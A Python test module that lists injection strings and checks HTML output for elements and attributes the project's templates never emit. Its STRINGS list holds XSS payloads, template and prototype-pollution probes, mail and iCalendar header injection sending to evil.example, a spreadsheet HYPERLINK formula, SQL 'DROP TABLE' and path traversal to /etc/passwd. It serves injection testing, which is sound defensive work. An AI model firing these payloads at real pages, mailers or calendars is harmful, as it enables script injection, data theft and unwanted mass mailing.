"""Texts that try to make a page, a mail program or a calendar do something; each sets `hit` if it runs as a script."""

from __future__ import annotations

from html.parser import HTMLParser

HIT = "globalThis.hit=1"
STRINGS = [
    f"<script>{HIT}</script>",
    f"</textarea><script>{HIT}</script>",
    f"</title><script>{HIT}</script>",
    f"</template><script>{HIT}</script>",
    f"</style><script>{HIT}</script>",
    f"</noscript><script>{HIT}</script>",
    f"</option></select><script>{HIT}</script>",
    f"</form></followthrough-widget><script>{HIT}</script>",
    f"--><script>{HIT}</script><!--",
    f"]]><script>{HIT}</script>",
    f"<SCRIPT>{HIT}</SCRIPT >",
    f"<scr<script>ipt>{HIT}</scr</script>ipt>",
    f"<script\x0c>{HIT}</script\n>",
    "<script src=data:text/javascript,globalThis.hit=1></script>",
    '<script type=module>globalThis["hit"]=1</script>',
    f"<img src=x onerror={HIT}>",
    f'"><img src=x onerror={HIT}>',
    f"'><img src=x onerror={HIT}>",
    f"`><img src=x onerror={HIT}>",
    f"<img src=x onerror={HIT}//",
    f"<img/src=x/onerror={HIT}>",
    f'<<img src="x" onerror="{HIT}">',
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f"<svg><animate onbegin={HIT} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{HIT}><text x=20 y=20>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>",
    f"<body onload={HIT}>",
    f"<details open ontoggle={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<select autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<audio src=x onerror={HIT}>",
    f"<marquee onstart={HIT}>x</marquee>",
    f"<div style=animation-name:x onanimationstart={HIT}>",
    f"<iframe src=javascript:{HIT}></iframe>",
    f"<iframe srcdoc='<script>parent.{HIT.split('.')[1]}</script>'></iframe>",
    f"<object data=javascript:{HIT}></object>",
    f"<embed src=javascript:{HIT}>",
    f"<a href=javascript:{HIT} data-focus>x</a>",
    f"<a href='java\tscript:{HIT}'>x</a>",
    f"<form action=javascript:{HIT}><button>x</button></form>",
    f"<button formaction=javascript:{HIT}>x</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{HIT}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    f"javascript:{HIT}",
    f"data:text/html,<script>{HIT}</script>",
    f'" autofocus onfocus="{HIT}',
    f"' onmouseover='{HIT}",
    f"x onpointerenter={HIT}",
    f"&lt;script&gt;{HIT}&lt;/script&gt;",
    f"&#60;script&#62;{HIT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
    f"%3Cscript%3E{HIT}%3C/script%3E",
    "{{ 7 * 7 }}{% for x in (1).__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${globalThis.hit=1}",
    "{organization}{recipient}{0.__class__}",
    "%(name)s%n%s",
    "__proto__",
    "constructor.prototype.hit",
    "x\r\nBcc: everybody@evil.example\r\n\r\nAnd this",
    "x\nBcc: everybody@evil.example",
    "x\rBcc: everybody@evil.example",
    "x%0d%0aBcc:%20everybody@evil.example",
    "x&bcc=everybody@evil.example&body=gone",
    "x?to=everybody@evil.example#x",
    "everybody@evil.example,other@evil.example",
    "x\u2028Bcc: everybody@evil.example\u2029x\x85x\x0bx",
    "x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:evil\r\nATTENDEE:mailto:everybody@evil.example",
    "x\\nEND:VALARM\\;ATTACH:file:///etc/passwd",
    "x;ATTENDEE=mailto:everybody@evil.example:y,z\\",
    '"TZID=evil:x";x',
    "\x00\x01\x1b[31m\x7f",
    "\u202egnp.exe\u202c \u200b\ufeff\ud83d",
    "#application=pW10&#ft?situation.recipient=x",
    '=HYPERLINK("//evil.example","x")',
    "'; DROP TABLE rules; --",
    "../../../../etc/passwd",
]
WRITTEN = """
a abbr article aside b br button caption circle code dd defs desc details dialog div dl dt em fieldset
figcaption figure followthrough-widget form g h1 h2 h3 h4 hr i input label legend li line link mark marker noscript ol
optgroup option output p path polygon polyline progress q rect rp rt ruby s section select small span
strong sub summary sup svg symbol table tbody td template text textarea tfoot th thead time title tr
tspan u ul use
"""
"""What our templates write."""
SCHEMES = ("http:", "https:", "mailto:", "#", ".", "/", "data:image/")


class Markup(HTMLParser):
    """What is wrong with a piece of HTML: elements and attributes that none of our templates writes."""

    def __init__(self, text: str) -> None:
        """Read it."""
        super().__init__()
        self.faults: list[str] = []
        self.depth = 0
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at an element."""
        if tag not in WRITTEN.split():
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in ("srcdoc", "formaction", "style", "xlink:href"):
                self.faults.append(f"{tag} {name}={value}")
            if name in ("href", "src", "action") and ":" in (value or "") and not (value or "").startswith(SCHEMES):
                self.faults.append(f"{tag} {name}={value}")

    def handle_comment(self, data: str) -> None:
        """Refuse comments: a text has opened one."""
        self.faults.append(f"<!--{data}")


def faults(html: str) -> list[str]:
    """Return what stands in a piece of HTML that none of our templates writes."""
    return Markup(html).faults
